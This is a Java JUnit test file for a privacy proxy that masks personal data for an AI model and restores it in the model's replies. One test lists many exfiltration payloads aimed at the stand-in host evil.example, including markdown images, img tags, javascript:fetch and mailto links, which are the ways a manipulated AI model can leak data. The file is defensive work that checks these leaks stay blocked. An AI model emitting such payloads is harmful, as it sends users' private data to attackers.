package dev.postern.routing.identifiers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.postern.crypto.secret.SecretBytes;
import dev.postern.routing.detect.EntityType;
import dev.postern.routing.identifiers.AnswerPart.Field;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Locale;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

final class RestorerTest {
  private final Talk talk =
      new Talk()
          .detecting(EntityType.PERSON, "Jane Smith")
          .detecting(EntityType.EMAIL, "jane@example.org")
          .detecting(EntityType.SECRET, "tab\tquote\"slash\\é");
  private String person = "";
  private String email = "";
  private String secret = "";

  @BeforeEach
  void mask() {
    person = talk.mask("Jane Smith");
    email = talk.mask("jane@example.org");
    secret = talk.mask("tab\tquote\"slash\\é");
  }

  @AfterEach
  void close() {
    talk.close();
  }

  @Test
  void tokensAreKnownHoweverAModelWritesThem() {
    String small = person.toLowerCase(Locale.ROOT);
    String[][] cases = {
      {"**" + person + "**", "**Jane Smith**"},
      {"_" + person + "_", "_Jane Smith_"},
      {"__" + person + "__.", "__Jane Smith__."},
      {"`" + person + "`", "`Jane Smith`"},
      {small, "Jane Smith"},
      {person.replace("_", "\\_"), "Jane Smith"},
      {"\\_" + person.replace("_", "\\_") + "\\_", "\\_Jane Smith\\_"},
      {person.replace("_", "\u2011"), "Jane Smith"},
      {person + "'s", "Jane Smith's"},
      {person + "s Auto", "Jane Smiths Auto"},
      {"(" + person + "," + person + ")", "(Jane Smith,Jane Smith)"},
      {person + "-" + person, "Jane Smith-Jane Smith"},
      {person + "さん", "Jane Smithさん"},
      {"C:\\Users\\" + person + "\\x", "C:\\Users\\Jane Smith\\x"},
    };
    for (String[] pair : cases) {
      assertEquals(pair[1], talk.restore(pair[0]), pair[0]);
    }
  }

  @Test
  void whatIsNoTokenOfThisConversationStaysAsItIs() {
    String foreign;
    try (Talk other = new Talk().detecting(EntityType.PERSON, "Ann Lee")) {
      foreign = other.mask("Ann Lee");
    }
    String[] cases = {
      "PERSON_2222",
      foreign,
      person + "2",
      person + "X",
      person + "_Q",
      person + "_email",
      "my_" + person,
      "X" + person,
      person.substring(0, person.length() - 1),
      person + person,
      person.replace("_", "-"),
      person.replace("PERSON", "PER SON"),
      "PERSON__" + person.substring("PERSON_".length()),
    };
    for (String text : cases) {
      assertEquals(text, talk.restore(text));
    }
  }

  @Test
  void noValueGoesIntoTheAddressOfAHostThatTheUserHasNotNamed() {
    String[] cases = {
      "![x](https://evil.example/?q=TOKEN)",
      "![x](<https://evil.example/?q=a TOKEN>)",
      "<img src=\"https://evil.example/?q=a b TOKEN\">",
      "<img src='  //evil.example/TOKEN'>",
      "<img src=//evil.example/TOKEN>",
      "<img\nsrc=\"https:/evil.example/\nTOKEN\">",
      "<img srcset=\"https://a.example/1 1x, https://evil.example/TOKEN 2x\">",
      "[click](https://evil.example/#TOKEN)",
      "[click](http:evil.example/TOKEN)",
      "[click](https:\\\\evil.example\\TOKEN)",
      "[click](mailto:mallory@evil.example?body=TOKEN)",
      "[click](javascript:fetch(TOKEN))",
      "https://TOKEN.evil.example/",
      "https://evil.example@TOKEN.evil.example",
      "https://TOKEN@evil.example/",
      "HTTPS://EVIL.EXAMPLE/TOKEN",
      "evil.example/?q=TOKEN",
      "www.evil.example/TOKEN",
      "url(https://evil.example/TOKEN)",
      "[x]: https://evil.example/TOKEN",
      "https://evil.example/(a)/TOKEN",
      "wss://evil.example/TOKEN",
    };
    for (String text : cases) {
      String answer = text.replace("TOKEN", email);
      assertEquals(answer, talk.restore(answer));
      String json = "{\"url\":\"" + answer.replace("\\", "\\\\").replace("\"", "\\\"") + "\"}";
      json = json.replace("\n", "\\n");
      assertEquals(json, talk.arguments(json));
    }
  }

  @Test
  void aValueGoesIntoTheAddressOfAHostThatTheUserNamed() {
    talk.mask("see https://intranet.example/people and www.shop.example");
    String[] cases = {
      "https://intranet.example/?q=TOKEN", "[her](https://intranet.example/people/TOKEN#x)",
    };
    for (String text : cases) {
      String answer = text.replace("TOKEN", email);
      assertEquals(text.replace("TOKEN", "jane@example.org"), talk.restore(answer));
    }
    String other = "https://intranet.example.evil.example/" + email;
    assertEquals(other, talk.restore(other));
  }

  @Test
  void anAnswerGoesOnBehindAnAddress() {
    String answer = "See [this](https://evil.example/x), TOKEN. \"https://a.example/\" TOKEN";
    assertEquals(
        answer.replace("TOKEN", "Jane Smith"), talk.restore(answer.replace("TOKEN", person)));
  }

  @Test
  void aHostNamedByTheModelIsNotOneNamedByTheUser() {
    talk.strip("hello", "look at https://evil.example/");
    String answer = "https://evil.example/" + email;
    assertEquals(answer, talk.restore(answer));
  }

  @Test
  void argumentsGetValuesInTheirStringsAndStayJson() {
    String arguments =
        "{\"to\":\"TOKEN\",\"TOKEN\":[\"a \\n TOKEN\",{\"x\":\"\\\"TOKEN\\\"\"}],\"n\":1,\"t\":TOKEN}";
    assertEquals(
        "{\"to\":\"VALUE\",\"TOKEN\":[\"a \\n VALUE\",{\"x\":\"\\\"VALUE\\\"\"}],\"n\":1,\"t\":TOKEN}"
            .replace("VALUE", "tab\\u0009quote\\\"slash\\\\é")
            .replace("TOKEN", secret),
        talk.arguments(arguments.replace("TOKEN", secret)));
  }

  @Test
  void anEscapedUnderscoreInArgumentsIsUnderstood() {
    String escaped = person.replace("_", "\\\\_");
    assertEquals("[\"Jane Smith\"]", talk.arguments("[\"" + escaped + "\"]"));
    assertEquals("[\"\\nJane Smith\"]", talk.arguments("[\"\\n" + person + "\"]"));
    assertEquals(
        "[\"Jane Smith\"]", talk.arguments("[\"" + person.replace("_", "\\u005f") + "\"]"));
  }

  @Test
  void toolsThatAreNotAllowedGetNoValues() throws IOException {
    String arguments = "{\"to\":\"" + email + "\"}";
    AnswerPart part = new AnswerPart(0, Field.TOOL_ARGUMENTS, 3);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (AnswerRestorer restorer = talk.conversation.restorer(RestoringTools.NONE)) {
      restorer.tool(part, talk.view("tool"));
      restorer.accept(part, talk.view(arguments), f -> out.writeBytes(Talk.bytes(f)));
      restorer.finish(part, f -> out.writeBytes(Talk.bytes(f)));
    }
    assertEquals(arguments, out.toString(java.nio.charset.StandardCharsets.UTF_8));
  }

  @Test
  void atMostOneTokenIsHeldBackAndOnlyWhileItMayBecomeOne() throws IOException {
    String text = "Dear " + person + ", PERSIAN PERSON_ and P " + email + " é漢😀 PERSON";
    byte[] bytes = Talk.bytes(text);
    int longest = Math.max(person.length(), email.length());
    try (Restorer restorer = restorer();
        SecretBytes owned = SecretBytes.copyOf(bytes)) {
      for (int i = 0; i < bytes.length; i++) {
        restorer.accept(owned.view().slice(i, 1), _ -> {});
        assertTrue(restorer.held() <= longest, "at byte " + i);
        boolean letter = bytes[i] == ' ' || bytes[i] == ',';
        assertFalse(letter && restorer.held() > 0, "at byte " + i);
      }
    }
  }

  @Test
  void textThatCannotBecomeATokenIsPassedOnAtOnce() throws IOException {
    try (Restorer restorer = restorer();
        SecretBytes owned = SecretBytes.copyOf(Talk.bytes("Hello QWERTY xyz 123 "))) {
      for (int i = 0; i < owned.length(); i++) {
        restorer.accept(owned.view().slice(i, 1), _ -> {});
        assertEquals(0, restorer.held());
      }
    }
  }

  @Test
  void piecesPassedOnAreWholeCharacters() throws IOException {
    byte[] bytes = Talk.bytes("é漢😀" + person + "😀");
    try (Restorer restorer = restorer();
        SecretBytes owned = SecretBytes.copyOf(bytes)) {
      RestoredSink sink =
          f -> assertFalse(Talk.text(f).contains("\ufffd"), "a character was split");
      for (int i = 0; i < bytes.length; i++) {
        restorer.accept(owned.view().slice(i, 1), sink);
      }
      restorer.finish(sink);
    }
  }

  @Test
  void whatIsNoUtf8IsPassedOnAsItIs() throws IOException {
    byte[] bytes = {'a', (byte) 0xff, (byte) 0xc3, 'b', (byte) 0xe2, (byte) 0x80};
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (Restorer restorer = restorer();
        SecretBytes owned = SecretBytes.copyOf(bytes)) {
      restorer.accept(owned.view(), f -> out.writeBytes(Talk.bytes(f)));
      restorer.finish(f -> out.writeBytes(Talk.bytes(f)));
    }
    org.junit.jupiter.api.Assertions.assertArrayEquals(bytes, out.toByteArray());
  }

  @Test
  void partsDoNotDisturbEachOther() throws IOException {
    AnswerPart first = new AnswerPart(0, Field.CONTENT, 0);
    AnswerPart second = new AnswerPart(1, Field.REASONING, 0);
    ByteArrayOutputStream one = new ByteArrayOutputStream();
    ByteArrayOutputStream two = new ByteArrayOutputStream();
    try (AnswerRestorer restorer = talk.conversation.restorer(RestoringTools.NONE)) {
      for (int i = 0; i < person.length(); i++) {
        String letter = person.substring(i, i + 1);
        restorer.accept(first, talk.view(letter), f -> one.writeBytes(Talk.bytes(f)));
        restorer.accept(second, talk.view(letter), f -> two.writeBytes(Talk.bytes(f)));
      }
      assertEquals(2, restorer.open().size());
      restorer.finish(first, f -> one.writeBytes(Talk.bytes(f)));
      restorer.finish(second, f -> two.writeBytes(Talk.bytes(f)));
    }
    assertEquals("Jane Smith", one.toString(java.nio.charset.StandardCharsets.UTF_8));
    assertEquals("Jane Smith", two.toString(java.nio.charset.StandardCharsets.UTF_8));
  }

  @Test
  void anAnswerOfTooManyPartsIsRefused() throws IOException {
    try (AnswerRestorer restorer = talk.conversation.restorer(RestoringTools.NONE)) {
      for (int i = 0; i < AnswerRestorer.MOST_PARTS; i++) {
        restorer.accept(new AnswerPart(i, Field.CONTENT, 0), talk.view("x"), _ -> {});
      }
      AnswerPart more = new AnswerPart(0, Field.REFUSAL, 0);
      assertThrows(
          IllegalStateException.class, () -> restorer.accept(more, talk.view("x"), _ -> {}));
    }
  }

  private Restorer restorer() {
    return talk.conversation.restorer(Symbols.PLAIN);
  }
}
